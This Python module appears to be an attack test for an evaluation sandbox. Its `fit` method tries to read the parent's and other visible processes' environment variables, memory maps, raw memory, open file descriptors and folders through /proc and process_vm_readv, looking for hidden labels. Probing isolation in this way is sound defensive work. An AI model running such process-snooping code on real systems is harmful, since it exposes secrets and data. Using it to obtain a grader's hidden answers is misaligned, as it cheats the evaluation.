"""Reads the parent's memory, environment and open files, and those of every visible process.

Hopes for the hidden labels, which the parent certainly holds.
"""

import ctypes
import os
from pathlib import Path

from _base import TARGET, Ignorant, attempt

VERDICT = {"status": "complete", "chance": True}
TIERS = {"process": "not promised: it can read what you can"}


class Attack(Ignorant):
    def fit(self, train, valid, report):
        libc = ctypes.CDLL(None, use_errno=True)
        own = {os.getpid(), os.getppid()}
        seen = {int(entry) for entry in os.listdir("/proc") if entry.isdigit()} - own
        for pid in {TARGET["parent"], TARGET["victim"]} | seen:
            place = Path("/proc", str(pid))
            if pid == 1 and "bwrap" in place.joinpath("cmdline").read_text():
                continue  # the first process of the sandbox holds nothing: see kills_its_sandbox
            attempt(f"environment of {pid}", place.joinpath("environ").read_bytes, b"")
            attempt(f"maps of {pid}", place.joinpath("maps").read_text, "")  # a kernel thread has none
            attempt(f"memory of {pid}", lambda place=place: os.open(place / "mem", os.O_RDONLY))
            for fd in range(32):
                attempt(f"open file {fd} of {pid}", lambda place=place, fd=fd: os.readlink(place / "fd" / str(fd)))
                attempt(
                    f"open file {fd} of {pid}", lambda place=place, fd=fd: os.open(place / "fd" / str(fd), os.O_RDONLY)
                )
            attempt(f"folder of {pid}", lambda place=place: os.listdir(place / "cwd"))
            attempt(f"root of {pid}", lambda place=place: os.listdir(place / "root"))
            room = ctypes.create_string_buffer(64)
            piece = (ctypes.c_size_t * 2)(ctypes.addressof(room), 64)
            there = (ctypes.c_size_t * 2)(0x400000, 64)
            if libc.process_vm_readv(pid, piece, 1, there, 1, 0) > 0:
                attempt("process_vm_readv", lambda: "read")
